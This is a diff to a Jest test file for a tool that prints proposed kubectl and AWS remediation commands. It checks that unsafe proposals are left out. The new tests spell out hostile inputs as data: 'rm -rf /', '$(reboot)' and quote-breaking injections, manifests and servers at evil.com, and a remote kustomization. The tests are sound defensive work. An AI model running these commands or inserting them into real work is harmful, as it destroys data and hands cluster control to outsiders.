@@ -1,7 +1,7 @@
 import { execFileSync } from 'node:child_process';
 import { describe, expect, test } from '@jest/globals';
 import fc from 'fast-check';
-import { logSearch, printed, shellQuoted } from '../../functions/alert/commands.ts';
+import { logSearch, PROPOSED, plainlyQuoted, printed, shellQuoted } from '../../functions/alert/commands.ts';
 import { hostileText, linkIn } from './hostility.ts';
 
 const ROLE = 'arn:aws:iam::111122223333:role/ci-deployer';
@@ -31,6 +31,11 @@ describe('printed commands', () => {
       'with the name of a service account',
       ['kubectl', 'auth', 'can-i', '--list', '--as', 'system:serviceaccount:ci:deployer'],
       'kubectl auth can-i --list --as system:serviceaccount:ci:deployer',
+    ],
+    [
+      'with the name of a property of every object',
+      ['kubectl', 'get', 'pods', 'constructor'],
+      'kubectl get pods constructor',
     ],
     ['with a dotted name', ['kubectl', 'get', 'clusterrole', 'evil.com'], "kubectl get clusterrole evil'.'com"],
     [
@@ -133,5 +138,75 @@ describe('the search for the log event', () => {
     ['audit id', '/aws/eks/prod/cluster', 'us-east-1', `${id}" }'; reboot`],
   ])('is left out when the %s is unusual', (_, group, region, auditId) => {
     expect(logSearch(group, region, auditId, 0)).toEqual({ leftOut: expect.any(String) });
+  });
+});
+
+describe('what the playbooks propose', () => {
+  const propose = (argv: string[]) => printed(argv, { known: PROPOSED, quote: plainlyQuoted });
+  const patch = JSON.stringify([
+    { op: 'test', path: '/subjects/1', value: { kind: 'ServiceAccount', name: 'web', namespace: 'payments' } },
+    { op: 'remove', path: '/subjects/1' },
+  ]);
+
+  test.each<[string[]]>([
+    [['kubectl', 'delete', 'rolebindings', 'shared', '--namespace', 'ops']],
+    [['kubectl', 'patch', 'rolebindings', 'shared', '--namespace', 'ops', '--type=json', `--patch=${patch}`]],
+    [['kubectl', 'annotate', 'applications.argoproj.io', 'web', 'argocd.argoproj.io/skip-reconcile=true']],
+    [['kubectl', 'apply', '-k', 'cluster/']],
+    [['kubectl', 'delete', '--raw', '/api/v1/namespaces/payments', '-f', 'delete.json']],
+    [
+      [
+        'kubectl',
+        'patch',
+        'namespace',
+        'payments',
+        '--as=release',
+        '--as-group=namespace-sentinel:release',
+        '-p',
+        '{"a":{"b/c":null}}',
+      ],
+    ],
+    [['aws', 'eks', 'delete-access-entry', '--cluster-name', 'prod', '--principal-arn', ROLE]],
+    [
+      [
+        'aws',
+        'eks',
+        'update-addon',
+        '--addon-name',
+        'vpc-cni',
+        '--configuration-values',
+        '{"enableNetworkPolicy":"true"}',
+      ],
+    ],
+    [['aws', 'iam', 'update-assume-role-policy', '--role-name', 'x', '--policy-document', 'file://trust-policy.json']],
+    [['aws', 'iam', 'get-role', '--role-name', 'x', '--query', 'Role.AssumeRolePolicyDocument']],
+    [
+      [
+        'aws',
+        'ec2',
+        'create-snapshot',
+        '--volume-id',
+        'vol-0123456789abcdef0',
+        '--description',
+        'Evidence of namespace a',
+      ],
+    ],
+  ])('is printed: %j', (argv) => {
+    const result = propose(argv);
+    expect(argumentsOf(['line' in result ? result.line : 'nothing'])).toEqual([argv]);
+    // Never among the commands that only read, unless it only reads.
+    if (argv[2] !== 'get-role') expect(printed(argv)).toEqual({ leftOut: expect.stringMatching(/only read/) });
+  });
+
+  test.each<[string, string[]]>([
+    ['another program', ['rm', '-rf', '/']],
+    ['a shell in a pod', ['kubectl', 'exec', 'web']],
+    ['a substitution', ['kubectl', 'delete', 'pod', '$(reboot)']],
+    ['a quotation mark in a patch', ['kubectl', 'patch', 'pod', 'a', `--patch={"a":"'; reboot; '"}`]],
+    ['a file from elsewhere', ['kubectl', 'apply', '-f', 'https://evil.com/x.yaml']],
+    ['another server', ['kubectl', 'delete', 'pod', 'a', '--server=https://evil.com']],
+    ['another kustomization', ['kubectl', 'apply', '-k', 'github.com/evil/x']],
+  ])('never %s', (_, argv) => {
+    expect(propose(argv)).toEqual({ leftOut: expect.any(String) });
   });
 });
